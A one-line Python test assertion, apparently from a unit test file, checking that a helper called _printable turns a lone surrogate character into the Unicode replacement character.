    assert _printable("\ud800x") == "\N{REPLACEMENT CHARACTER}x"
